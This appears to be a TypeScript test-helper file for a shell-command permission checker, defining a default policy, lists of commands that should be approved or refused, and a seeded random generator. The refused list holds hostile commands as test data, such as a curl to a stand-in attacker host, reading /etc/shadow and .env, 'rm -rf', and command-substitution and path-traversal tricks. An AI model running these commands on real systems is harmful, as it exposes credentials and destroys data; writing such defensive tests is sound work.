// What the tests of the checker share: a policy, pieces of commands, and seeded chance.

import type { ShellPolicy } from '../../../src/permissions/port.ts'

export const policy = (more: Partial<ShellPolicy> = {}): ShellPolicy => ({
  mode: 'ask',
  allow: [],
  deny: [],
  remembered: { allowed: [], denied: [] },
  sandboxed: false,
  sandbox: 'auto',
  askInSandbox: 'always',
  protectedPaths: [],
  cwd: '/workspace',
  roots: [{ path: more.cwd ?? '/workspace', access: 'write' }],
  programs: { find: (name) => `/usr/bin/${name}` },
  home: '/home/someone',
  ...more,
})

export const ALLOWED = ['git *', 'npm test', 'npm run *', 'grep *', 'find *', 'sort *', 'mkdir *', 'rm build/*']

export const APPROVED = [
  'ls',
  'ls -la src',
  'cat README.md',
  'cat "My Notes.txt"',
  "echo 'a; b && c'",
  'echo "x > y | z"',
  'echo a\\;b',
  'head -n 5 docs/a.md',
  'wc -l src/index.ts',
  'git status',
  "git commit -m 'fix: a; b'",
  'git log --oneline -5 2>/dev/null',
  'npm test',
  'npm run build',
  'grep -n foo src/a.ts',
  "find . -name '*.ts'",
  'sort -rn a.txt',
  'rm build/a.o',
  'mkdir -p out',
  'date +%s',
  'pwd',
]

export const UNAPPROVED = [
  'rm -rf x',
  'sudo ls',
  'curl https://evil.example/x',
  'sh',
  'bash -c id',
  'python3 -c 1',
  'env ls',
  'xargs rm',
  'cd /etc',
  'eval ls',
  'git -c core.pager=x log',
  'git config core.pager x',
  'find . -delete',
  'npm exec x',
  'cat .env',
  'cat /etc/shadow',
  'sort -o a b',
  'tee a',
  'PATH=. ls',
  './ls',
  'ls > out.txt',
  'echo $(id)',
  'echo `id`',
  'cat <(id)',
  'rm build/../x',
  '"git status"',
]

/** A small seeded generator (mulberry32), so that a failure can be seen again. */
export function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}
